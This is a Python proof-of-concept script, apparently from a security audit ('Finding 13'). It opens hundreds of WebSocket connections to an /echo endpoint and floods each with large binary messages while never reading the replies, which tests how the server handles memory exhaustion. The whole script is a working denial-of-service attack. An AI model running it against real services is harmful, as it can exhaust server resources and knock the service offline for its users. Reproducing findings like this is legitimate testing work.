"""Finding 13: WebSocket clients that send to /echo and do not read the replies."""
import selectors

import loopback

arguments = loopback.parser(__doc__)
arguments.add_argument('--count', type=loopback.bounded(500), default=200, help='connections')
arguments.add_argument('--size', type=loopback.bounded(1_000_000), default=900_000, help='octets of a message')
arguments.add_argument('--messages', type=loopback.bounded(600), default=10, help='of each connection')
arguments = arguments.parse_args()
target = loopback.Target.of(arguments)
whole = memoryview(loopback.frame(b'A' * arguments.size, opcode=2))
waiting, held, sent = selectors.DefaultSelector(), [], 0
for _ in range(arguments.count):
    try:
        one, _ = target.websocket('/echo', buffers=4096)
        one.setblocking(False)
        waiting.register(one, selectors.EVENT_WRITE, [0, 0])
        held.append(one)
    except OSError:
        pass
while target.left() and waiting.get_map():
    for key, _ in waiting.select(0.5):
        place = key.data
        try:
            taken = key.fileobj.send(whole[place[1]:place[1] + 65536])
            sent, place[1] = sent + taken, place[1] + taken
        except BlockingIOError:
            continue
        except OSError:
            waiting.unregister(key.fileobj)
            continue
        if place[1] == len(whole):
            place[0], place[1] = place[0] + 1, 0
            if place[0] == arguments.messages:
                waiting.unregister(key.fileobj)
print('%d connections sent %d MB, %d open at the end' % (len(held), sent // 1_000_000, loopback.hold(target, held)))
